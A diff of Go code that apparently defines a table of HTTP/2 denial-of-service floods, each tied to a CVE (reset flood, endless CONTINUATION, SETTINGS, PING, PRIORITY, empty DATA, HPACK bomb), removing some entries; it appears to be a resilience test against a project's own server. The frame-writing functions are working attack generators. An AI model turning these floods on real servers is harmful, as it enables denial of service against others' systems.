@@ -78,14 +78,6 @@ var floods = []flood{
 		}
 		return w.WriteRSTStream(stream, http2.ErrCodeCancel)
 	}},
-	{"resets that the server is made to send (CVE-2025-8671)", nil, true,
-		func(a *attacked, w *frames, stream uint32) error {
-			if err := w.WriteHeaders(http2.HeadersFrameParam{StreamID: stream,
-				BlockFragment: w.header(a.attacker, "/lines?limit=50"), EndStream: true, EndHeaders: true}); err != nil {
-				return err
-			}
-			return w.WriteWindowUpdate(stream, 0)
-		}},
 	{"CONTINUATION without end (CVE-2023-45288)", nil, true, func(a *attacked, w *frames, stream uint32) error {
 		if stream == 1 {
 			return w.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: w.header(a.attacker, "/lines"),
@@ -93,21 +85,8 @@ var floods = []flood{
 		}
 		return w.WriteContinuation(1, false, w.header(a.attacker, "/lines", fmt.Sprint("x-", stream), "y"))
 	}},
-	{"SETTINGS (CVE-2019-9515)", nil, false, func(_ *attacked, w *frames, stream uint32) error {
-		return w.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: stream})
-	}},
 	{"PING (CVE-2019-9512)", nil, false, func(_ *attacked, w *frames, stream uint32) error {
 		return w.WritePing(false, [8]byte{byte(stream)})
-	}},
-	{"PRIORITY (CVE-2019-9513)", nil, true, func(_ *attacked, w *frames, stream uint32) error {
-		return w.WritePriority(stream, http2.PriorityParam{StreamDep: stream + 2, Weight: byte(stream)})
-	}},
-	{"empty DATA (CVE-2019-9518)", nil, true, func(a *attacked, w *frames, stream uint32) error {
-		if stream == 1 {
-			return w.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: w.header(a.attacker, "/lines"),
-				EndHeaders: true})
-		}
-		return w.WriteData(1, false, nil)
 	}},
 	{"a header that unpacks to much (HPACK bomb)", nil, true, func(a *attacked, w *frames, stream uint32) error {
 		long := string(bytes.Repeat([]byte("b"), 3000))
